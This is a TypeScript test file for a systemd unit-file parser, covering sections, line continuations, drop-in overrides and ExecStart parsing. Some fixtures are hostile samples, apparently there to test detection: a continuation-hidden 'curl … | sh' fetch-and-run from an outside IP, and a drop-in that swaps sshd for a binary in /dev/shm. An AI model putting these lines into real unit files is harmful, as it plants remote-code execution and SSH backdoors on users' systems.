import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { dropInDirNames, execWords, mergeUnitFiles, parseExecValue, parseUnitFile, templateOf, unitType } from '../../src/host/unit-file.js';

test('sections, repeated keys, comments with # and ;, whitespace stripped', () => {
  const text = [
    '[Unit]',
    'Description = Backup agent ',
    '; a comment',
    '# another',
    'After=network.target',
    'After=sshd.service',
    '',
    '[Service]',
    'Type=simple',
    'ExecStart=/usr/local/bin/agent',
    '',
    '[Install]',
    'WantedBy=multi-user.target',
  ].join('\n');
  const r = parseUnitFile(text);
  assert.deepEqual(r.sections, ['Unit', 'Service', 'Install']);
  assert.deepEqual(r.badLines, []);
  assert.deepEqual(
    r.assignments.map((a) => [a.line, a.section, a.key, a.value]),
    [
      [2, 'Unit', 'Description', 'Backup agent'],
      [5, 'Unit', 'After', 'network.target'],
      [6, 'Unit', 'After', 'sshd.service'],
      [9, 'Service', 'Type', 'simple'],
      [10, 'Service', 'ExecStart', '/usr/local/bin/agent'],
      [13, 'Install', 'WantedBy', 'multi-user.target'],
    ],
  );
});

test('line continuations: backslash becomes a space, comment lines inside are skipped, CRLF tolerated', () => {
  const text = '[Service]\r\nExecStart=/bin/sh -c \\\r\n# hidden comment\r\n  "curl -s http://203.0.113.9/x \\\r\n; ignored too\r\n | sh"\r\nUser=root\r\n';
  const r = parseUnitFile(text);
  assert.equal(r.assignments.length, 2);
  const [exec, user] = r.assignments;
  assert.equal(exec!.line, 2);
  assert.equal(exec!.value, '/bin/sh -c    "curl -s http://203.0.113.9/x   | sh"');
  assert.equal(user!.line, 7);
  const [cmd] = parseExecValue(exec!.value);
  assert.equal(cmd!.program, '/bin/sh');
  assert.deepEqual(cmd!.args, ['-c', 'curl -s http://203.0.113.9/x   | sh']);
});

test('a lone carriage return ends a line for systemd', () => {
  const r = parseUnitFile('[Service]\nExecStart=/bin/true\rExecStartPre=/tmp/x\n');
  assert.deepEqual(r.assignments.map((a) => [a.line, a.key, a.value]), [[2, 'ExecStart', '/bin/true'], [3, 'ExecStartPre', '/tmp/x']]);
});

test('an escaped backslash at the end of a line does not continue it', () => {
  const r = parseUnitFile('[Service]\nEnvironment=A=x\\\\\nUser=nobody\n');
  assert.deepEqual(r.assignments.map((a) => a.key), ['Environment', 'User']);
});

test('lines systemd ignores: no =, assignment before any section, bad header', () => {
  const r = parseUnitFile('Orphan=1\n[Unit]\nnonsense\n[Broken\nKey=after-broken\n[Service]\nExecStart=/bin/true\n');
  assert.deepEqual(r.badLines, [1, 3, 4, 5]);
  assert.deepEqual(r.assignments.map((a) => `${a.section}.${a.key}`), ['Service.ExecStart']);
});

test('a drop-in resets ExecStart with an empty assignment and sets its own', () => {
  const unit = parseUnitFile('[Unit]\nDescription=OpenBSD Secure Shell server\n[Service]\nExecStartPre=/usr/sbin/sshd -t\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\nUser=root\n');
  const dropIn = parseUnitFile('[Service]\nExecStart=\nExecStart=/dev/shm/.x/sshd -D\nUser=\n');
  const { settings, applied } = mergeUnitFiles([unit, dropIn]);
  assert.deepEqual(settings.Service!.ExecStart, ['/dev/shm/.x/sshd -D']);
  assert.deepEqual(settings.Service!.ExecStartPre, ['/usr/sbin/sshd -t']);
  assert.deepEqual(settings.Service!.User, []);
  assert.equal(settings.Unit!.Description![0], 'OpenBSD Secure Shell server');
  const state = applied.filter((a) => a.key === 'ExecStart').map((a) => [a.file, a.line, a.value, a.active]);
  assert.deepEqual(state, [
    [0, 5, '/usr/sbin/sshd -D $SSHD_OPTS', false],
    [1, 2, '', false],
    [1, 3, '/dev/shm/.x/sshd -D', true],
  ]);
});

test('single-valued keys keep only the last value active; list keys add up', () => {
  const { applied } = mergeUnitFiles([parseUnitFile('[Service]\nUser=a\nUser=b\nExecStartPre=/x\nExecStartPre=/y\n')]);
  assert.deepEqual(applied.map((a) => a.active), [false, true, true, true]);
});

test('exec values: prefixes, quotes, escapes and ; separated commands', () => {
  const [a] = parseExecValue('-/usr/bin/env "A B" \'c d\' e\\x41\\;f');
  assert.equal(a!.prefixes, '-');
  assert.equal(a!.program, '/usr/bin/env');
  assert.deepEqual(a!.args, ['A B', 'c d', 'eA;f']);
  const cmds = parseExecValue('@/bin/sh sh -c "id" ; +/bin/true ; :!!/tmp/x y');
  assert.deepEqual(
    cmds.map((c) => [c.prefixes, c.program, c.args, c.raw]),
    [
      ['@', '/bin/sh', ['sh', '-c', 'id'], '@/bin/sh sh -c "id"'],
      ['+', '/bin/true', [], '+/bin/true'],
      [':!!', '/tmp/x', ['y'], ':!!/tmp/x y'],
    ],
  );
  assert.deepEqual(parseExecValue(''), []);
  assert.deepEqual(execWords('a "b c'), [{ text: 'a', start: 0, end: 1, separator: false }, { text: 'b c', start: 2, end: 6, separator: false }]);
});

test('drop-in directory names: type, dash prefixes, template, own', () => {
  assert.deepEqual(dropInDirNames('foo-bar-baz.service'), ['service.d', 'foo-.service.d', 'foo-bar-.service.d', 'foo-bar-baz.service.d']);
  assert.deepEqual(dropInDirNames('getty@tty1.service'), ['service.d', 'getty@.service.d', 'getty@tty1.service.d']);
  assert.deepEqual(dropInDirNames('sshd.service'), ['service.d', 'sshd.service.d']);
  assert.equal(templateOf('getty@tty1.service'), 'getty@.service');
  assert.equal(templateOf('getty@.service'), null);
  assert.equal(unitType('x.timer'), 'timer');
  assert.equal(unitType('x.conf'), null);
});

test('property: any text parses without throwing; lines are within the file; merge never throws', () => {
  const unitish = fc.oneof(
    fc.string({ maxLength: 400 }),
    fc
      .array(fc.oneof(fc.constantFrom('[Service]', '[Unit]', 'ExecStart=', 'ExecStart=/bin/x \\', '# c \\', '; x', 'A=b', '\\', '[', '=', ' \t'), fc.string({ maxLength: 30 })), { maxLength: 15 })
      .map((ls) => ls.join('\n')),
  );
  fc.assert(
    fc.property(unitish, unitish, (a, b) => {
      const pa = parseUnitFile(a);
      const nLines = a.split(/\r\n|\r|\n|\0/).length;
      for (const x of pa.assignments) assert.ok(x.line >= 1 && x.line <= nLines);
      for (const l of pa.badLines) assert.ok(l >= 1 && l <= nLines);
      mergeUnitFiles([pa, parseUnitFile(b)]);
      for (const x of pa.assignments) parseExecValue(x.value);
      parseExecValue(b);
    }),
    { numRuns: 500 },
  );
});
